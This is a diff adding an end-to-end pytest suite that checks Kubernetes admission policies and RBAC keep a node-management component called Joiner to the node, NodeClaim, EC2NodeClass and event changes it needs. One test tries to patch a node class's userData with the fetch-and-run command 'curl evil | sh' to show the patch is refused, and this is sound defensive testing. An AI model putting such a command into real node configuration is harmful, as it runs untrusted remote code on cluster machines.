@@ -1,0 +1,217 @@
+"""The admission policies on nodes, claims, node classes and events, and RBAC, against a real API server.
+
+A forbidden request is refused with the policy's message, although RBAC allows it.
+"""
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+
+from joiner.names import BINDERS, DRAINERS, EVENT_WRITERS, RECORDERS, VIEWERS
+from joiner_local.control_plane.kube_api import ApiError, KubeApi, Object
+from joiner_local.stack.stack_control import LocalStack
+from tests.e2e.policy_members import (
+    CLAIMS,
+    DISRUPTED,
+    EVENTS,
+    FILLING,
+    MERGE,
+    NODES,
+    PODS,
+    POOL,
+    Cluster,
+    event,
+    fresh,
+    policed_cluster,
+    refused,
+    taint,
+)
+
+pytestmark = pytest.mark.e2e
+
+
+@pytest.fixture(scope="module")
+def cluster(bare_stack: LocalStack, kube: KubeApi, aws: Callable[[str], Any]) -> Iterator[Cluster]:
+    with policed_cluster(bare_stack, kube, aws) as made:
+        yield made
+
+
+def test_only_joiner_nodes_are_changed(cluster: Cluster) -> None:
+    drainer, foreign = cluster.member(VIEWERS, DRAINERS), cluster.node(labels={})
+    taint(drainer, cluster.node(), DISRUPTED)
+
+    refused(f"node {foreign} is not Joiner's", lambda: taint(drainer, foreign, DISRUPTED))
+    refused(f"node {foreign} is not Joiner's", lambda: drainer.call("DELETE", f"{NODES}/{foreign}"))
+    refused(
+        f"node {foreign} is not Joiner's",
+        lambda: drainer.call("PATCH", f"{NODES}/{foreign}", {"metadata": {"labels": POOL}}, content_type=MERGE),
+    )
+
+
+def test_a_node_is_deleted_only_with_the_disrupted_taint(cluster: Cluster) -> None:
+    drainer = cluster.member(VIEWERS, DRAINERS)
+    drainer.call("DELETE", f"{NODES}/{cluster.node(DISRUPTED)}")
+
+    refused("is deleted only when it is being disrupted", lambda: drainer.call("DELETE", f"{NODES}/{cluster.node()}"))
+
+
+def test_only_the_fields_of_a_node_that_joiner_needs_are_changed(cluster: Cluster) -> None:
+    binder = cluster.member(VIEWERS, BINDERS)
+    registered = cluster.node(
+        FILLING, labels={**POOL, "karpenter.sh/registered": "true"}, finalizers=["karpenter.sh/termination"]
+    )
+    tainted = cluster.node({"key": "team", "value": "a", "effect": "NoSchedule"})
+
+    taint(binder, registered)  # opened
+    refused("changes metadata and taints", lambda: taint(binder, registered, unschedulable=True))
+    refused("removes only the taints", lambda: taint(binder, tainted))
+    refused("adds only the taint", lambda: taint(binder, registered, {"key": "out", "effect": "NoExecute"}))
+    refused(
+        "stays in its pool",
+        lambda: binder.call(
+            "PATCH",
+            f"{NODES}/{registered}",
+            {"metadata": {"labels": {"karpenter.sh/nodepool": "other"}}},
+            content_type=MERGE,
+        ),
+    )
+    refused(
+        "keeps its finalizers until it is being disrupted",
+        lambda: binder.call("PATCH", f"{NODES}/{registered}", {"metadata": {"finalizers": None}}, content_type=MERGE),
+    )
+
+
+def test_an_unlabelled_node_is_adopted_with_a_claim_unless_it_is_a_node_groups(cluster: Cluster) -> None:
+    binder = cluster.member(VIEWERS, BINDERS)
+    owner = {
+        "apiVersion": "karpenter.sh/v1",
+        "kind": "NodeClaim",
+        "name": "any",
+        "uid": "1",
+        "blockOwnerDeletion": True,
+    }
+
+    def join(node: str) -> Object:
+        return binder.call(
+            "PATCH", f"{NODES}/{node}", {"metadata": {"labels": POOL, "ownerReferences": [owner]}}, content_type=MERGE
+        )
+
+    join(cluster.node(labels={}))
+    managed = cluster.node(labels={"eks.amazonaws.com/nodegroup": "system"})
+    refused(f"node {managed} is not Joiner's", lambda: join(managed))
+
+
+def test_only_node_claims_of_a_pool_are_changed(cluster: Cluster) -> None:
+    recorder, foreign, own = cluster.member(VIEWERS, RECORDERS), cluster.claim(labels={}), cluster.claim()
+    cluster.admin.create(CLAIMS, foreign)
+    recorder.call("POST", CLAIMS, own)
+    path, foreign_path = f"{CLAIMS}/{own['metadata']['name']}", f"{CLAIMS}/{foreign['metadata']['name']}"
+
+    recorder.call("PATCH", f"{path}/status", {"status": {"providerID": "aws:///us-east-1a/i-1"}}, content_type=MERGE)
+    refused(
+        "is not Joiner's",
+        lambda: recorder.call("PATCH", f"{foreign_path}/status", {"status": {"nodeName": "x"}}, content_type=MERGE),
+    )
+    refused("is not Joiner's", lambda: recorder.call("DELETE", foreign_path))
+    refused(
+        "keeps its finalizers until it is deleted",
+        lambda: recorder.call("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE),
+    )
+    refused(
+        "stays in its pool",
+        lambda: recorder.call(
+            "PATCH", path, {"metadata": {"labels": {"karpenter.sh/nodepool": "other"}}}, content_type=MERGE
+        ),
+    )
+    recorder.call("DELETE", path)
+    recorder.call("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE)
+
+
+def test_a_node_claim_is_created_with_its_finalizer(cluster: Cluster) -> None:
+    claim = cluster.claim()
+    del claim["metadata"]["finalizers"]
+
+    refused(
+        "with the finalizer karpenter.sh/termination",
+        lambda: cluster.member(VIEWERS, RECORDERS).call("POST", CLAIMS, claim),
+    )
+
+
+def test_of_a_node_class_only_the_finalizer_is_changed(cluster: Cluster) -> None:
+    recorder, path = cluster.member(VIEWERS, RECORDERS), "/apis/karpenter.k8s.aws/v1/ec2nodeclasses"
+    terms = {name: [{"tags": {"a": "b"}}] for name in ("subnetSelectorTerms", "securityGroupSelectorTerms")}
+    spec = {"amiSelectorTerms": [{"alias": "al2023@latest"}], **terms}
+    name = fresh("class")
+    made: Object = {
+        "apiVersion": "karpenter.k8s.aws/v1",
+        "kind": "EC2NodeClass",
+        "metadata": {"name": name},
+        "spec": spec,
+    }
+    one = f"{path}/{name}"
+    cluster.admin.create(path, made)
+
+    def patch(changes: Object) -> Object:
+        return recorder.call("PATCH", one, changes, content_type=MERGE)
+
+    held = patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination"]}})
+    assert held["metadata"]["finalizers"] == ["karpenter.k8s.aws/termination"]
+    refused("may not change", lambda: patch({"spec": {"userData": "curl evil | sh"}}))
+    refused("may not change", lambda: patch({"metadata": {"labels": {"a": "b"}}}))
+    refused("may change", lambda: patch({"metadata": {"finalizers": ["karpenter.k8s.aws/termination", "a.example/b"]}}))
+    refused("keeps its finalizer until it is deleted", lambda: patch({"metadata": {"finalizers": None}}))
+
+    cluster.admin.call("DELETE", one)
+    patch({"metadata": {"finalizers": None}})
+    with pytest.raises(ApiError, match="not found"):
+        cluster.admin.get(one)
+
+
+def test_events_have_joiners_reporting_controller(cluster: Cluster) -> None:
+    writer = cluster.member(VIEWERS, EVENT_WRITERS)
+    writer.call("POST", EVENTS, event("joiner.dev/joiner"))
+
+    refused(
+        "with the reporting controller joiner.dev/joiner",
+        lambda: writer.call("POST", EVENTS, event("default-scheduler")),
+    )
+
+
+@pytest.mark.parametrize(
+    ("groups", "method", "path"),
+    [
+        ((VIEWERS, RECORDERS), "POST", f"{PODS}/any/binding"),
+        ((VIEWERS, RECORDERS), "PATCH", f"{NODES}/any"),
+        ((VIEWERS, BINDERS), "POST", f"{PODS}/any/eviction"),
+        ((VIEWERS, BINDERS), "DELETE", f"{NODES}/any"),
+        ((VIEWERS, BINDERS), "POST", "/api/v1/namespaces/default/bindings"),
+        ((VIEWERS, DRAINERS), "POST", f"{PODS}/any/binding"),
+        ((VIEWERS, DRAINERS), "PATCH", f"{PODS}/any/status"),
+        ((VIEWERS, DRAINERS), "PUT", f"{NODES}/any"),
+        ((VIEWERS, EVENT_WRITERS), "POST", "/api/v1/namespaces/default/events"),
+        ((VIEWERS, EVENT_WRITERS), "PATCH", f"{EVENTS}/any"),
+        ((VIEWERS,), "POST", EVENTS),
+        ((VIEWERS,), "GET", "/api/v1/secrets"),
+        (
+            (VIEWERS, DRAINERS, BINDERS, RECORDERS),
+            "DELETE",
+            "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/joiner-nodes",
+        ),
+        (
+            (VIEWERS, DRAINERS, BINDERS, RECORDERS),
+            "PATCH",
+            "/apis/rbac.authorization.k8s.io/v1/clusterroles/joiner:binder",
+        ),
+    ],
+)
+def test_rbac_refuses_what_a_group_does_not_need(
+    cluster: Cluster, groups: tuple[str, ...], method: str, path: str
+) -> None:
+    body: Object | None = {} if method in ("POST", "PATCH", "PUT") else None
+    with pytest.raises(ApiError) as error:
+        cluster.member(*groups).call(
+            method, path, body, content_type=MERGE if method == "PATCH" else "application/json"
+        )
+    assert error.value.status == 403, error.value
+    assert "ValidatingAdmissionPolicy" not in str(error.value)
